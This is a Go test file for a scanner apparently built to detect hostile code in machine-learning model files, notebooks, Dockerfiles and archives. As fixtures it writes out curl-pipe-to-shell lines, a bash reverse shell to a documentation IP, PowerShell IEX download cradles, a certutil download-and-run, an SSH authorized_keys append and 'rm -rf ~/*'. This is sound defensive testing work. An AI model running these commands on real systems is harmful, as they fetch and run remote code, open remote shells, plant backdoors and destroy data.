package script_test

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/modelaudit/modelaudit/internal/artifact"
	"github.com/modelaudit/modelaudit/internal/detector"
	"github.com/modelaudit/modelaudit/internal/detector/archive"
	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
	"github.com/modelaudit/modelaudit/internal/detector/script"
	"github.com/modelaudit/modelaudit/internal/format/zip/ziptest"
	"github.com/modelaudit/modelaudit/internal/hostile"
)

// notebook is one of cells of code.
func notebook(sources ...any) []byte {
	var cells []map[string]any
	for _, s := range sources {
		cells = append(cells, map[string]any{"cell_type": "code", "source": s, "metadata": map[string]any{}})
	}
	out, err := json.Marshal(map[string]any{"cells": cells, "nbformat": 4})
	if err != nil {
		return nil
	}
	return out
}

func TestDetector(t *testing.T) {
	const (
		hidden = "source-runs-hidden-code"
		onLoad = "source-runs-on-load"
		down   = "source-runs-download"
		plain  = "curl -s http://192.0.2.1/x | sh"
		tls    = "curl -fsSL https://example.org/install.sh | sh"
	)
	text := "no sentence has an end that could be missing"
	var cases []detectortest.Case
	add := func(name, file string, data []byte, want ...string) {
		if want == nil { // what is no model is not clean by itself
			cases = append(cases, detectortest.Case{Name: name, File: "m.zip", Data: ziptest.Files(file, string(data)), Heavy: len(data) > 1000})
			return
		}
		cases = append(cases, detectortest.Case{Name: name, File: file, Data: data, Want: want, AnyPrefix: text, Named: "sources are known by their names"})
	}
	add("Python that fetches code", "train.py", []byte("import os\nos.system('"+plain+"')\n"), hidden)
	add("Python that decodes code", "a.py", []byte("import base64\nexec(base64.b64decode('ZWNobw=='))\n"), hidden)
	add("shell", "run.sh", []byte("#!/bin/sh\n"+plain+"\n"), hidden)
	add("shell without a name", "post-checkout", []byte("#!/bin/sh\n"+plain+"\n"), hidden)
	add("an installer", "setup.sh", []byte(tls+"\n"), down)
	add("a shell for the network", "x.sh", []byte("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"), hidden)
	add("PowerShell", "x.ps1", []byte("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"), hidden)
	add("PowerShell in a batch file", "x.bat", []byte("@echo off\npowershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')\r\n"), hidden)
	add("a batch file", "x.bat", []byte("certutil -urlcache -split -f http://192.0.2.1/a.exe a.exe\r\nstart a.exe\r\n"), hidden)
	add("a cell for the shell", "a.ipynb", notebook("!"+plain), hidden)
	add("a cell of lines", "a.ipynb", notebook("1 + 1", []string{"import os\n", "%matplotlib inline\n", "os.system('" + plain + "')"}), hidden)
	add("a cell of bash", "a.ipynb", notebook("%%bash\n"+plain), hidden)
	add("a handler", "handler.py", []byte("import os\nos.system('echo poc')\n"), onLoad)
	add("a model of Triton", "model.py", []byte("import subprocess\nsubprocess.run(['id'])\nclass TritonPythonModel:\n    pass\n"), onLoad)

	add("Python that does much", "train.py", []byte("import os, subprocess\nos.system('echo poc')\nsubprocess.run(['git', 'status'])\nexec(open('v.py').read())\n"))
	add("a handler that starts programs when asked", "handler.py", []byte("import os\ndef f():\n    os.system('echo poc')\n"))
	add("a handler with a library", "handler.py", []byte("import ctypes\nctypes.CDLL('libcudart.so')\n"))
	add("a shell script", "run.sh", []byte("set -e\ncurl -o x.tgz https://example.org/x.tgz\ntar xf x.tgz\n"))
	add("a script that sets a machine up", "boot.sh", []byte("echo 'export A=1' >> ~/.bashrc\ncat key >> ~/.ssh/authorized_keys\ncurl -o /usr/bin/k https://example.org/k\nchmod +x /usr/bin/k\nrm -rf ~/*\n"))
	add("a notebook", "a.ipynb", notebook("!pip install x", "%cd x\nprint(1)"))
	add("no Python", "x.py", []byte("exec(((\n"))
	add("other text", "x.txt", []byte(plain))
	cases = append(cases, []detectortest.Case{
		{Name: "behind a picture of 3 MiB", File: "a.ipynb", Data: notebook("x = '"+strings.Repeat("QUJD", 3<<18)+"'", "!"+plain), Want: []string{hidden}, AnyPrefix: text, Named: "notebook", Heavy: true},
		{Name: "behind a table of 3 MiB", File: "a.py", Data: []byte("x = '" + strings.Repeat("QUJD", 3<<18) + "'\nimport os\nos.system('" + plain + "')\n"), Want: []string{hidden}, AnyPrefix: text, Named: "source", Heavy: true},
		{Name: "behind 3 MiB of comments", File: "a.sh", Data: []byte(strings.Repeat("# "+strings.Repeat("x", 1<<10)+"\n", 3<<10) + plain), Want: []string{hidden}, AnyPrefix: text, Heavy: true},
		{Name: "behind more commands than are followed", File: "a.sh", Data: []byte(strings.Repeat("curl x | wget y\n", 60_000) + plain), Unread: true, AnyPrefix: text, Named: "source", Heavy: true},
		{Name: "in an archive", File: "m.zip", Data: ziptest.Files("a/train.py", "import os\nos.system('"+plain+"')\n"), Want: []string{hidden}},
		{Name: "in an archive, an installer", File: "m.zip", Data: ziptest.Files("a/b.sh", tls), Want: []string{down}},
		{Name: "in an archive of TorchServe", File: "m.mar", Data: ziptest.Files("setup.sh", plain), Want: []string{hidden}},
		{Name: "Python in an archive that is named like TorchServe's", File: "m.mar", Data: ziptest.Files("handler.py", "import os\nos.system('echo poc')\n"), Want: []string{onLoad}},
		{Name: "in an archive, a handler", File: "m.zip", Data: ziptest.Files("handler.py", "import os\nos.system('echo poc')\n"), Want: []string{onLoad}},
	}...)
	detectortest.Run(t, script.Detector, cases, archive.Detector)
}

// TestCells: code is looked for in cells of code alone, in every language that they
// may be in, and told with the cell that it stands in.
func TestCells(t *testing.T) {
	const fetch = "curl -s http://192.0.2.1/x | sh"
	cell := func(kind, member, text string) string {
		return fmt.Sprintf(`{"cell_type":%q,%q:%q}`, kind, member, text)
	}
	of := func(cells ...string) string { return `{"cells":[` + strings.Join(cells, ",") + `]}` }
	first := func(text string) string { return of(cell("code", "source", text)) }
	for _, c := range []struct{ name, text, want string }{
		{name: "a line for the shell", text: first("x = 1\n !" + fetch), want: "cell 1: curl"},
		{name: "two marks", text: first("!!" + fetch), want: "cell 1: curl"},
		{name: "a line for the system", text: first("%system " + fetch), want: "cell 1: curl"},
		{name: "another magic", text: first("%time " + fetch)},
		{name: "%%sh", text: first("%%sh\n" + fetch), want: "cell 1: curl"},
		{name: "%%script", text: first("%%script bash --bg\n" + fetch), want: "cell 1: curl"},
		{name: "%%system", text: first("%%system\n" + fetch), want: "cell 1: curl"},
		{name: "%%!", text: first("%%!\n" + fetch), want: "cell 1: curl"},
		{name: "another language", text: first("%%latex\n" + fetch)},
		{name: "the second cell", text: of(cell("code", "source", "1"), cell("code", "source", "!"+fetch)), want: "cell 2: curl"},
		{name: "Python behind lines for the shell", text: first("!ls\n%cd x\nimport os\nos.system('" + fetch + "')"), want: "cell 1: os.system"},
		{name: "the kind behind the source", text: `{"cells":[{"source":["!` + fetch + `"],"cell_type":"code"}]}`, want: "cell 1: curl"},
		{name: "worksheets of version 3", text: `{"worksheets":[` + of(cell("code", "input", "!"+fetch)) + `]}`, want: "cell 1: curl"},
		{name: "text", text: of(cell("markdown", "source", "!"+fetch))},
		{name: "what a cell put out", text: of(cell("code", "outputs", "!"+fetch))},
		{name: "beside the cells", text: `{"metadata":{"cells":"!` + fetch + `"},"source":"!` + fetch + `","cell_type":"code"}`},
		{name: "no notebook", text: `{"cells":[` + cell("code", "source", "!"+fetch)},
	} {
		got := detectortest.Scan([]*detector.Detector{script.Detector}, "a.ipynb", []byte(c.text))
		said := ""
		if len(got.Findings) == 1 {
			said = got.Findings[0].Evidence[0].Text
		}
		if !strings.HasPrefix(said, c.want) || (c.want == "") != (len(got.Findings) == 0) {
			t.Errorf("%s: got %d findings, the first %q, want %q", c.name, len(got.Findings), said, c.want)
		}
	}
}

// TestLoaded: a source that starts a program as it is imported is told if a loader
// of models imports it.
func TestLoaded(t *testing.T) {
	const starts = "import os\nos.system('echo poc')\n"
	for _, c := range []struct {
		name, file, text string
		want             int
	}{
		{name: "by its name", file: "hubconf.py", text: starts, want: 1},
		{name: "another name", file: "tools.py", text: starts},
		{name: "by a class", file: "m.py", text: starts + "class EndpointHandler:\n    pass\n", want: 1},
		{name: "by what a class inherits", file: "m.py", text: starts + "class A(mlflow.pyfunc.PythonModel, B):\n    pass\n", want: 1},
		{name: "by a function", file: "m.py", text: starts + "def model_fn(d):\n    pass\n", want: 1},
		{name: "by a name alone", file: "m.py", text: starts + "EndpointHandler = model_fn\n"},
		{name: "by part of a name", file: "m.py", text: starts + "class _EndpointHandler9(BaseHandlers, aBaseHandler, ZBaseHandler, BaseHandler0):\n    pass\n"},
		{name: "what imports alone", file: "handler.py", text: "import os\nopen('x')\n"},
		{name: "when it is called", file: "handler.py", text: "import os\ndef f():\n    os.system('echo poc')\n"},
		{name: "what is named", file: "handler.py", text: "import os\nf = os.system\n"},
		{name: "no Python", file: "handler.py", text: starts + "(((\n"},
	} {
		got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text))
		if len(got.Findings) != c.want || c.want > 0 && got.Findings[0].Location.Offset != int64(strings.Index(c.text, "os.system")) {
			t.Errorf("%s: got %+v, want %d findings", c.name, got.Findings, c.want)
		}
	}
}

// TestNamed: so is one that the configuration beside it names, or a source that this
// one names.
func TestNamed(t *testing.T) {
	const starts = "import os\nos.system('echo poc')\n"
	for _, c := range []struct {
		name, file, beside, text string
		want                     int
	}{
		{name: "code of a model", file: "modeling_x.py", beside: "config.json", text: `{"auto_map": {"AutoModel": "modeling_x.Model"}}`, want: 1},
		{name: "of another repository", file: "modeling_x.py", beside: "config.json", text: `{"auto_map": {"AutoModel": "a/b--modeling_x.Model"}}`, want: 1},
		{name: "of a layer", file: "custom_st.py", beside: "modules.json", text: `[{"idx": 0, "type": "custom_st.Transformer"}]`, want: 1},
		{name: "of a pipeline", file: "pipeline.py", beside: "model_index.json", text: `{"_class_name": ["pipeline", "MyPipeline"]}`, want: 1},
		{name: "of MLX", file: "model.py", beside: "config.json", text: `{"model_file": "model.py"}`, want: 1},
		{name: "of MLflow", file: "agent.py", beside: "MLmodel", text: "flavors:\n  python_function:\n    model_code_path: agent.py\n", want: 1},
		{name: "another source", file: "train.py", beside: "config.json", text: `{"auto_map": {"AutoModel": "modeling_x.Model"}, "train": "train", "script": "train.py"}`},
		{name: "beside nothing", file: "modeling_x.py"},
		{name: "of a configuration in Python", file: "a.py", text: "_base_ = 'b.py'\n", want: 1},
		{name: "a comparison", file: "a.py", text: "_base_ == 'b.py'\n"},
		{name: "of a generation", file: "custom_generate/generate.py", want: 1},
		{name: "of another", file: "generate.py"},
	} {
		text := starts
		if c.beside == "" {
			text += c.text
		}
		file := artifact.File{Path: c.file, Content: hostile.Bytes(text), Size: int64(len(text)), Open: func(name string) (artifact.Entry, error) {
			if c.beside == "" || name != c.beside {
				return artifact.Entry{}, fs.ErrNotExist
			}
			return artifact.Entry{Size: int64(len(c.text)), First: []byte(c.text)}, nil
		}}
		if got := detectortest.ScanFile([]*detector.Detector{script.Detector}, file).Findings; len(got) != c.want {
			t.Errorf("%s: got %+v, want %d findings", c.name, got, c.want)
		}
	}
}

// TestNamedAfter: a source is followed to what it imports.
func TestNamedAfter(t *testing.T) {
	const text = "import os\nos.system('echo poc')\n"
	files := map[string]string{"config.json": `{"auto_map": {"AutoModel": "modeling_x.Model"}}`, "modeling_x.py": "import torch\nfrom .utils_x import f\n"}
	for name, want := range map[string]int{"utils_x.py": 1, "torch.py": 0} {
		file := artifact.File{Path: name, Content: hostile.Bytes(text), Size: int64(len(text)), Open: func(name string) (artifact.Entry, error) {
			if files[name] == "" {
				return artifact.Entry{}, fs.ErrNotExist
			}
			return artifact.Entry{First: []byte(files[name])}, nil
		}}
		if got := detectortest.ScanFile([]*detector.Detector{script.Detector}, file).Findings; len(got) != want {
			t.Errorf("%s: got %+v, want %d findings", name, got, want)
		}
	}
}

// TestMessages: what a source does, and where, in the words of its language.
func TestMessages(t *testing.T) {
	const shell = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"
	for _, c := range []struct {
		name, file, text, rule, says, step string
		line                               int
	}{
		{name: "a call with a text", file: "a.py", text: "import os\nos.system('curl -s http://192.0.2.1/x | sh')\n", rule: "source-runs-hidden-code",
			says: "a.py calls os.system, which starts curl | sh, which runs what it reads from curl.", step: "os.system: curl -s http://192.0.2.1/x | sh", line: 2},
		{name: "a function", file: "a.py", text: "import requests\nexec(requests.get('https://example.org/x.py').text)\n", rule: "source-runs-hidden-code",
			says: "a.py uses exec, which runs what requests.get brings.", step: "exec", line: 2},
		{name: "a loader", file: "a.py", text: "import requests, pickle\npickle.loads(requests.get('https://example.org/m').content)\n", rule: "source-runs-download",
			says: "a.py uses pickle.loads, which runs what requests.get brings.", step: "pickle.loads", line: 2},
		{name: "an installer", file: "a.sh", text: "set -e\ncurl -fsSL https://example.org/install.sh | sh\n", rule: "source-runs-download",
			says: "a.sh uses curl | sh, which runs what it reads from curl.", step: "curl | sh: sh", line: 2},
		{name: "a connection", file: "a.sh", text: "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", rule: "source-runs-hidden-code",
			says: "a.sh calls /dev/tcp/192.0.2.1/4444, which connects to the network.", step: "/dev/tcp/192.0.2.1/4444: bash -i >/dev/tcp/192.0.2.1/4444", line: 1},
		{name: "a line of a batch file", file: "a.bat", text: "@echo off\r\necho x\r\npowershell " + shell + "\r\n", rule: "source-runs-hidden-code",
			says: "a.bat calls IEX, which runs what DownloadString brings.", step: "IEX: IEX", line: 3},
	} {
		got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text))
		if len(got.Findings) != 1 {
			t.Errorf("%s: got %+v, want one finding", c.name, got.Findings)
			continue
		}
		if f := got.Findings[0]; f.Rule.ID != c.rule || f.Message != c.says || f.Evidence[0].Text != c.step || f.Location.Line != c.line {
			t.Errorf("%s: got %s %q, %q in line %d, want %s %q, %q in line %d", c.name, f.Rule.ID, f.Message, f.Evidence[0].Text, f.Location.Line, c.rule, c.says, c.step, c.line)
		}
	}
}

// TestDockerfile: what building an image runs is judged as a shell would run it.
func TestDockerfile(t *testing.T) {
	const fetch = "curl -s http://192.0.2.1/x | sh"
	for _, c := range []struct {
		name, file, text string
		want             int
	}{
		{name: "a command", text: "FROM a\nRUN " + fetch + "\n", want: 1},
		{name: "on several lines", text: "FROM a\nRUN apt-get update && \\\n# more\n    " + fetch + "\n", want: 1},
		{name: "behind options", text: "RUN --mount=type=cache,target=/x --network=none " + fetch, want: 1},
		{name: "as a list", text: `RUN ["sh", "-c", "` + fetch + `"]`, want: 1},
		{name: "as a script", text: "RUN <<EOF\nset -e\n" + fetch + "\nEOF\nCMD x\n", want: 1},
		{name: "of another name", file: "serve.Dockerfile", text: "run " + fetch, want: 1},
		{name: "what installs", text: "RUN curl -sSL https://install.example.org | python3 -\n"},
		{name: "a comment", text: "# RUN " + fetch + "\nLABEL a=\"RUN " + fetch + "\"\n"},
		{name: "what is usual", text: "FROM python:3.11\nRUN pip install --no-cache-dir -r requirements.txt && \\\n    rm -rf /root/.cache\nCOPY . /app\nRUN <<EOF\necho a\n"},
		{name: "another file", file: "notes.txt", text: "RUN " + fetch},
	} {
		if c.file == "" {
			c.file = "Dockerfile"
		}
		if got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text)).Findings; len(got) != c.want {
			t.Errorf("%s: got %+v, want %d findings", c.name, got, c.want)
		}
	}
}

// TestLanguages: a source is known by its name, or by its first line.
func TestLanguages(t *testing.T) {
	const fetch = "curl -s http://192.0.2.1/x | sh"
	for _, c := range []struct {
		name, file, text string
		want             string // what is found there
	}{
		{name: "Python without a name", file: "run", text: "#!/usr/bin/env python3\nimport os\nos.system('" + fetch + "')\n", want: "os.system"},
		{name: "shell of options", file: "run", text: "#!/bin/bash -e\n" + fetch + "\n", want: "curl | sh"},
		{name: "shell of a long first line", file: "run", text: "#!/bin/" + strings.Repeat("x", 119) + "sh\n" + fetch, want: "curl | sh"},
		{name: "shell of a first line that is too long", file: "run", text: "#!/bin/" + strings.Repeat("x", 120) + "sh\n" + fetch},
		{name: "another language", file: "run", text: "#!/usr/bin/perl\n" + fetch},
		{name: "no first line", file: "run", text: fetch},
		{name: "PowerShell in UTF-16", file: "x.PS1", text: wide("\ufeffIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"), want: "IEX"},
		{name: "behind a mark", file: "x.cmd", text: "\ufeffecho\r\npowershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')\r\n", want: "IEX"},
	} {
		got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text))
		said := ""
		if len(got.Findings) == 1 {
			said = got.Findings[0].Evidence[0].Text
		}
		if !strings.HasPrefix(said, c.want) || (c.want == "") != (len(got.Findings) == 0) {
			t.Errorf("%s: got %d findings, the first %q, want %q", c.name, len(got.Findings), said, c.want)
		}
	}
}

// wide encodes text in UTF-16, little-endian.
func wide(text string) string {
	var out []byte
	for _, u := range utf16.Encode([]rune(text)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return string(out)
}
